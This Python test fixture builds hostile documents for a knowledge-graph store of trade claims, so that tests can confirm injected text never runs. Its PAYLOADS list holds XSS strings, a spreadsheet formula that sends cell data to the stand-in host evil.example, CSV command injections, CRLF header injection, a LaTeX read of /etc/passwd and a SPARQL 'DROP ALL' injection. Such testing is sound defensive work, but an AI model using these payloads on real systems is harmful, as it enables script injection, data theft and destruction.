"""Documents of somebody who means harm: every text that reaches a page or a file tries to break out of it.

A payload that runs calls `tripwire`, loads something from evil.example, or opens a dialog; tests watch for all three.
"""

from hashlib import sha256
from pathlib import Path

from api.wiring import finish
from kg.facts import (
    AgreementId,
    Claim,
    CountryCode,
    Event,
    EventStatus,
    EventType,
    Fact,
    Form,
    Measure,
    MeasureReport,
    MeasureType,
    Naming,
    PartialDate,
    Polarity,
    Role,
    RoleTitle,
    SectorId,
    Status,
)
from kg.ids import VOCABULARY_GRAPH, Namer
from kg.lexicon import lexicon
from kg.model import Document, EntityKind, Iri, Mention, Span
from kg.rdf import document_quads, vocabulary_quads
from kg.resolve import resolve
from kg.stores import open_store

ELSEWHERE = "evil.example"

PAYLOADS = (
    "<script>tripwire('script')</script>",
    "</script></title></textarea></style></noscript></template>--><script>tripwire('closed')</script>",
    "\"><img src=x onerror=tripwire('onerror')><svg/onload=tripwire('onload')>",
    "' autofocus onfocus=tripwire('onfocus') onmouseover='tripwire(1)' x='",
    "<iframe srcdoc=\"<script>parent.tripwire('frame')</script>\"></iframe>",
    f"<img src=https://{ELSEWHERE}/i.png><link rel=stylesheet href=//{ELSEWHERE}/c.css><base href=//{ELSEWHERE}/>",
    f"</style><style>*{{background:url(https://{ELSEWHERE}/b.png)}}</style>;background:url(//{ELSEWHERE}/c.png)",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'><form action=//{ELSEWHERE}/><input name=things id=data>",
    "javascript:tripwire('address')//",
    "{{ 7 * 7 }}{% for x in y %}${7 * 7}<%= 7 * 7 %>#{7 * 7}",
    "__proto__",
    "]]><script>tripwire('cdata')</script><![CDATA[ &lt;script&gt;tripwire('twice')&lt;/script&gt; &amp;",
    "%3Cscript%3Etripwire('coded')%3C/script%3E \\u003cscript\\u003etripwire('escaped')\\u003c/script\\u003e",
    "](javascript:tripwire('markdown)) `x` <b onclick=tripwire('b')>b</b> } @misc{x, \\input{/etc/passwd}",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "one\r\nSet-Cookie: tripwire=1\r\n\r\n<script>tripwire('header')</script>",
    "Ada \u202eyrraH\u2066 Quill \u202d\u2067",
    "A\u200bd\u200da\u2060 \ufeffQui\u00adll\u200e",
    "a\u0001b\u000bc\u001bd\u007fe\u0085f\ufffeg\uffffh \u2400 \ufffd",
    "Z" + "\u0338\u0351\u0322" * 60 + "algo",
    '" <http://evil.example/p> . } DROP ALL ; INSERT DATA { <a:b> <c:d> "',
)
"""What stands in each field, in turn: every payload in every kind of field."""

LONG = "".join(chr(ord("a") + number * 7919 % 26) for number in range(1_000_000))
"""A name of a megabyte without a space."""

ADDRESSES = (
    "javascript:tripwire('url')",
    "data:text/html,<script>tripwire('data')</script>",
    f"https://{ELSEWHERE}/\"onmouseover=\"tripwire('href')",
    f"//{ELSEWHERE}/relative",
    f"https://{ELSEWHERE}/plain",
)
"""Addresses that documents claim to have."""


class _Writer:
    """A text that grows by what is put into it, with the place of each piece."""

    def __init__(self) -> None:
        self.text = ""

    def put(self, words: str) -> Span:
        """The place of some words, at the end."""
        start = len(self.text)
        self.text += f"{words}. "
        return Span(start=start, end=start + len(words), text=words)


def document(number: int, texts: tuple[str, ...], turns: int = 3) -> tuple[Document, tuple[Fact, ...]]:
    """A document of some of the texts in every kind of field, from `number` on and round again."""
    written = _Writer()

    def of(turn: int) -> str:
        return texts[(number + turn) % len(texts)]

    facts = tuple(fact for turn in range(turns) for fact in _facts(written, of(turn), of(turn + 1), of(turn + 2), of(turn + 3)))
    return Document(
        iri=Namer().document(url=None, text=written.text),
        id=of(0),
        path=of(1),
        text=written.text,
        sha256=sha256(written.text.encode()).hexdigest(),
        language="en",
        title=" ".join(of(turn) for turn in range(3)),
        publisher=" ".join(of(turn) for turn in (2, 1, 0)),
        published=f"2025-01-{number % 28 + 1:02}",
        url=ADDRESSES[number % len(ADDRESSES)],
    ), facts


def _facts(written: _Writer, name: str, words: str, other: str, rule: str) -> tuple[Fact, ...]:
    """Every kind of fact, of two that are named and one that is not."""
    person = Mention(span=written.put(name), name=name, kind=EntityKind.PERSON, country="CA")
    body = Mention(span=written.put(other), name=other, kind=EntityKind.ORGANIZATION)
    somebody = Mention(span=written.put(rule), name=rule, kind=EntityKind.UNNAMED, candidates=(name, other))
    said, cue = written.put(f"{words} about steel"), written.put(rule)
    steel, canada, states = SectorId("steel"), CountryCode("CA"), CountryCode("US")
    return (
        *(
            Claim(
                speaker=who, cue=(cue,), content=(said,), form=Form.DIRECT, sectors=(steel,), countries=(canada,),
                recipient=body, date=PartialDate("2025-01"), date_text=other, evidence=(said,), confidence=0.5, rule=rule,
            )
            for who in (person, body, somebody)
        ),
        Claim(
            speaker=person, cue=(), content=(cue,), form=Form.INDIRECT, polarity=Polarity.DENIED, evidence=(cue,),
            confidence=0.5, rule=rule,
        ),
        Role(
            person=person, title=RoleTitle(words.casefold()), organization=body, country=canada, evidence=(cue,),
            confidence=0.5, rule=rule,
        ),
        MeasureReport(
            measure=Measure(measure=MeasureType.TARIFF, imposing=states, target=canada, sector=steel), status=Status.IN_FORCE,
            said_by=person, date_text=words, exempts=(AgreementId("usmca"),), evidence=(said,), confidence=0.5, rule=rule,
        ),
        Event(
            type=EventType.MEETING, status=EventStatus.PLANNED, participants=(person, body), place=words, date_text=other,
            sectors=(steel,), about=(AgreementId("usmca"),), evidence=(cue,), confidence=0.5, rule=rule,
        ),
        Naming(names=person, reason=rule, evidence=(cue,), confidence=0.5, rule=rule),
        Naming(names=AgreementId("usmca"), reason=rule, evidence=(said,), confidence=0.5, rule=rule),
    )  # fmt: skip


def hostile_documents() -> tuple[tuple[Document, tuple[Fact, ...]], ...]:
    """Documents in which every payload stands in every kind of field."""
    return tuple(document(number, PAYLOADS) for number in range(0, len(PAYLOADS), 3))


def endless_documents() -> tuple[tuple[Document, tuple[Fact, ...]], ...]:
    """One whose names, title and quotations have no end."""
    return (document(0, (LONG, PAYLOADS[0]), 1),)


def fill(path: Path, documents: tuple[tuple[Document, tuple[Fact, ...]], ...]) -> None:
    """Make a store that holds the vocabulary and those documents."""
    with open_store(path, write=True) as store:
        namer = Namer(base=store.base)
        store.replace_graphs({Iri(VOCABULARY_GRAPH): vocabulary_quads()})
        for made, facts in documents:
            resolution = resolve(made, facts, namer, lexicon())
            store.replace_graphs({Iri(namer.graph(made.iri)): document_quads(made, facts, resolution, namer, lexicon())})
        finish(store)
